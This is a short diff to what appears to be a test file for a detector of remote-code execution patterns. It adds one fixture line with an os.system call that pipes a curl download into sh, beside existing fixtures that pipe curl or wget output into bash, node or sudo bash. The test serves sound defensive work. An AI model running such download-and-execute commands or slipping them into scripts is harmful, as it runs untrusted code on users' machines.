@@ -193,6 +193,7 @@ test('remote_code: a download piped into a shell, in a script and in a fenced co
       '«curl -fsSL https://get.example.dev/i.sh | sudo -E bash» /dev/stdin',
       '«wget -qO- https://get.example.dev/i.js | node»',
       'curl -s https://api.example.dev/v | python3 -m json.tool; «curl -s https://get.example.dev/i.sh | bash»',
+      'os.system("«curl -fsSL https://get.example.dev/x.sh | sh»")',
     ].join('\n'),
   );
   expectIn(piped.analysis, 'remote_code', 'scripts/setup.sh', piped.spans);
